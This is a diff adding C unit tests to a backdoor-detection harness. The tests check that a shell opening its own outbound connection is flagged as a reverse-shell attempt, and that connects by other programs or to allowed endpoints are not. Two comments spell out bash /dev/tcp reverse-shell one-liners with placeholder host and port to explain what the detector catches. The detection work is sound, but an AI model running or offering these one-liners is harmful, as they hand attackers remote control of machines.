@@ -974,3 +974,55 @@ Test(backdoor, interpreter_loading_code_it_dropped)
 	cr_assert_eq(harness_count(h, NULL), 0);
 	harness_free(h);
 }
+
+/* `bash -i >& /dev/tcp/H/P 0>&1` with nobody listening: the shell's own
+ * connect is the attempt, even though no exec follows. */
+Test(backdoor, a_shell_connecting_itself_is_a_reverse_shell_attempt)
+{
+	struct harness *h = harness_new("backdoor", NULL, NULL);
+	exec_prog(h, 300, 0.1, "/usr/bin/bash", "pipe", "pipe", NULL);
+	fork_child(h, 300, 301, 0.2);
+	connect_to(h, 301, 0.3, 3, "127.0.0.1:4444", 4444, ECONNREFUSED);
+	harness_finish(h);
+	const struct harness_finding *f = harness_get(h, "backdoor.reverse_shell");
+	cr_assert_not_null(f, "a shell's own connect (the /dev/tcp idiom) was not reported");
+	cr_assert_eq(f->severity, DA_SEV_CRITICAL);
+	cr_assert(strstr(f->message, "attempted") && strstr(f->message, "127.0.0.1:4444") &&
+		  strstr(f->message, "ECONNREFUSED"), "%s", f->message);
+	harness_free(h);
+}
+
+Test(backdoor, a_program_connecting_is_not_the_shell_idiom)
+{
+	struct harness *h = harness_new("backdoor", NULL, NULL);
+	exec_prog(h, 300, 0.1, "/usr/bin/bash", "pipe", "pipe", NULL);
+	fork_child(h, 300, 301, 0.2);
+	exec_prog(h, 301, 0.25, "/usr/bin/python3", "pipe", "pipe", NULL);
+	connect_to(h, 301, 0.3, 3, "127.0.0.1:4444", 4444, ECONNREFUSED);
+	harness_finish(h);
+	cr_assert_null(harness_get(h, "backdoor.reverse_shell"));
+	harness_free(h);
+}
+
+Test(backdoor, a_shell_connecting_to_an_allowed_endpoint_is_not_reported)
+{
+	struct harness *h = harness_new("backdoor", "allow_connect: ['127.0.0.1:4444']", NULL);
+	exec_prog(h, 300, 0.1, "/bin/sh", "pipe", "pipe", NULL);
+	connect_to(h, 300, 0.3, 3, "127.0.0.1:4444", 4444, 0);
+	harness_finish(h);
+	cr_assert_null(harness_get(h, "backdoor.reverse_shell"));
+	harness_free(h);
+}
+
+Test(backdoor, a_shell_connection_that_reached_its_peer_is_reported_once)
+{
+	/* exec 5<>/dev/tcp/H/P; while read c <&5; do eval "$c"; done: builtins only */
+	struct harness *h = harness_new("backdoor", NULL, NULL);
+	exec_prog(h, 300, 0.1, "/usr/bin/bash", "pipe", "pipe", NULL);
+	connect_to(h, 300, 0.3, 5, "127.0.0.1:4444", 4444, 0);
+	harness_finish(h);
+	cr_assert_eq(harness_count(h, "backdoor.reverse_shell"), 1);
+	const struct harness_finding *f = harness_get(h, "backdoor.reverse_shell");
+	cr_assert(strstr(f->message, "reached its peer"), "%s", f->message);
+	harness_free(h);
+}
